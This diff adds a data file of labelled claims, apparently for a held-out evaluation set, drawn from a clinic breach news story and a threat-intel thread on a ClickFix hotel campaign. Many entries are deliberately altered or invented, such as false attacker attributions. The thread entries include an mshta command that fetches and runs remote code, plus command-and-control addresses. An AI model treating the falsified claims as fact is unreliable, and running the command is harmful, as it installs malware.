@@ -1,0 +1,172 @@
+import { type Labelled, labelledOf } from "./labelled.ts";
+
+/** Of the third held-out set, a news article and a thread. */
+export const thirdNews: Labelled[] = [
+  ...labelledOf(43, [
+    [
+      "true",
+      "title",
+      "86,000 clinic patients told that their records were stolen",
+      "Clinic chain tells 86,000 patients their records were stolen",
+    ],
+    [
+      "true",
+      "summary",
+      "The attackers entered via the supplier Calendry rather than through Larkmoor's own systems.",
+      "the thieves had got in through a supplier, the appointment service Calendry, and not through its own systems",
+    ],
+    [
+      "true",
+      "summary",
+      "Medical notes and payment cards were not stolen.",
+      "Names, birth dates and phone numbers were taken; medical notes and payment cards were not.",
+    ],
+    [
+      "true",
+      "entity",
+      "Velvet Anvil",
+      "A gang that calls itself Velvet Anvil says it's behind the theft",
+      "actor=Velvet Anvil",
+    ],
+    [
+      "true",
+      "summary",
+      "The gang demanded 1.2 million pounds; Larkmoor's CEO says the firm won't pay.",
+      [
+        "has asked for £1.2 million",
+        'Marcus Teale, Larkmoor\'s chief executive, said the company "will not pay and has not talked to them"',
+      ],
+    ],
+    [
+      "true",
+      "behaviour",
+      "A Calendry engineer was deceived by a fake LinkedIn job offer and opened a coding test with malware.",
+      [
+        "one of its engineers was tricked by a fake job offer on LinkedIn in June",
+        "The engineer opened a coding test that carried malware.",
+      ],
+    ],
+    [
+      "true",
+      "summary",
+      "The intrusion remained undetected for nearly 7 weeks.",
+      "For almost seven weeks nobody noticed.",
+    ],
+    [
+      "true",
+      "summary",
+      "No connection between Velvet Anvil and Tin Sparrow has been demonstrated.",
+      "Velvet Anvil first appeared in February and has been compared with Tin Sparrow, although no link between the two has been shown",
+    ],
+    [
+      "altered",
+      "summary",
+      "Medical notes were taken.",
+      "Names, birth dates, phone numbers and medical notes were taken",
+    ],
+    [
+      "altered",
+      "summary",
+      "Velvet Anvil is linked to Tin Sparrow.",
+      "Velvet Anvil first appeared in February and has been compared with Tin Sparrow",
+    ],
+    [
+      "altered",
+      "summary",
+      "The National Cyber Security Centre confirmed that Velvet Anvil is responsible.",
+      "The National Cyber Security Centre would not comment on the claim.",
+    ],
+    [
+      "invented",
+      "entity",
+      "Lazarus Group",
+      "one of its engineers was tricked by a fake job offer on LinkedIn in June",
+      "actor=Lazarus Group",
+    ],
+    [
+      "altered",
+      "behaviour",
+      "An engineer at Larkmoor was tricked by a fake job offer.",
+      "Calendry, which is based in Rotterdam, admitted that one of its engineers was tricked by a fake job offer on LinkedIn in June.",
+    ],
+    [
+      "altered",
+      "summary",
+      "All samples posted by the gang are from a leak in 2023.",
+      "All of the samples they posted are from a leak in 2023",
+    ],
+    [
+      "misplaced",
+      "summary",
+      "Larkmoor's control systems were separated from the office network.",
+      "die Leitwarte sei vom Büronetz getrennt und nicht betroffen",
+    ],
+  ]),
+  ...labelledOf(46, [
+    [
+      "true",
+      "summary",
+      "A ClickFix campaign has been targeting hotels in Spain, Portugal and Croatia since about 21 April.",
+      "New #ClickFix wave against hotels in Spain, Portugal and Croatia 🧵 Started ~21 April, still going.",
+    ],
+    [
+      "true",
+      "behaviour",
+      "A fake captcha page instructs employees to press Win+R and paste a command.",
+      "link goes to a fake captcha on verify-guestdesk.com page tells staff to press Win+R and paste a command",
+    ],
+    [
+      "true",
+      "observable",
+      "mshta https://verify-guestdesk.com/c/7",
+      "mshta hxxps://verify-guestdesk[.]com/c/7",
+      "url=https://verify-guestdesk.com/c/7",
+    ],
+    ["true", "observable", "C2 of PureRAT", "193.149.176.52:56001 (PureRAT)", "ip=193.149.176.52"],
+    [
+      "true",
+      "technique",
+      "mshta downloads and runs remote content.",
+      "mshta spawns powershell, which pulls stage2.ps1 from 193.149.176[.]52",
+      "technique=T1218.005",
+    ],
+    [
+      "true",
+      "query",
+      "Search RunMRU registry values for mshta, and PowerShell processes whose parent is mshta.exe.",
+      ['RunMRU registry values that contain "mshta"', "powershell with parent mshta.exe"],
+    ],
+    [
+      "true",
+      "hypothesis",
+      "If the payload was injected, then we should see explorer.exe connecting to port 56001.",
+      "explorer.exe talking to port 56001",
+    ],
+    ["invented", "entity", "APT41", "report that the campaign was run by APT41", "actor=APT41"],
+    [
+      "invented",
+      "observable",
+      "C2 server of the campaign",
+      "198.51.100.7 is its C2 server",
+      "ip=198.51.100.7",
+    ],
+    ["altered", "summary", "The final payload is AsyncRAT.", "AsyncRAT, as some vendors tagged it"],
+    ["altered", "summary", "The campaign was carried out by Storm-1865.", "it's Storm-1865"],
+    ["altered", "behaviour", "Ransomware was deployed in the hotels.", "No ransomware seen so far."],
+    [
+      "altered",
+      "observable",
+      "C2 of XWorm",
+      "wormnest.duckdns[.]org:7000 (XWorm)",
+      "domain=wormnest.duckdns.com",
+    ],
+    ["altered", "behaviour", "Both C2 channels are encrypted with TLS.", "no TLS on either"],
+    [
+      "invented",
+      "technique",
+      "Stage2 injects into explorer.exe.",
+      "stage2 patches AMSI in memory, then injects into explorer.exe",
+      "technique=T1055.099",
+    ],
+  ]),
+];
